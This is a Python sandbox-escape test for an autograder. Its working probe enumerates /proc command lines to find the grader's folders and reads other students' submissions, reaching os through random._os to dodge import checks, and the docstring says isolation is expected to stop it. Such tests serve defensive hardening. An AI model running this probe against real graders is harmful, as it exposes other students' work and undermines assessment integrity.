"""Attack: learn the batch's folders from the command lines of the processes the child can see
(/proc/<grader>/cmdline: `autograder batch SUBMISSIONS --out DIR`), then read the other students'
submissions and results there.

Expected: no other student's file is read: the grader's processes are out of sight (a PID
namespace of the child's own) or their folders out of reach (Landlock's allow-list; --out and its
results are the grader's alone, 0700 and 0600, where the child has a uid of its own).
"""
import time

_os = __import__("random")._os
_folders = set()
try:
    _pids = [name for name in _os.listdir("/proc") if name.isdigit()]
except OSError as _error:
    print("listing /proc ->", _error.strerror)
    _pids = []
for _pid in _pids:
    try:
        with open(f"/proc/{_pid}/cmdline", "rb") as _file:
            _words = _file.read().decode(errors="replace").split("\0")
    except OSError:
        continue
    _folders.update(word for word in _words if word.startswith("/") and _os.path.isdir(word) and word != "/")
print(f"{len(_folders)} folder(s) named in command lines")
_deadline, _read = time.monotonic() + 2, 0
for _folder in sorted(_folders):
    for _parent, _subfolders, _names in _os.walk(_folder):
        _subfolders[:] = [] if time.monotonic() > _deadline or _parent.count("/") > _folder.count("/") + 1 else _subfolders
        for _name in _names:
            if _name.endswith((".py", ".ipynb", ".json", ".csv", ".html")) and _read < 20:
                try:
                    with open(_os.path.join(_parent, _name), "rb") as _file:
                        _file.read(1 << 16)
                except OSError:
                    continue
                _read += 1
                print("READ", _os.path.join(_parent, _name))
print(f"{_read} file(s) read")
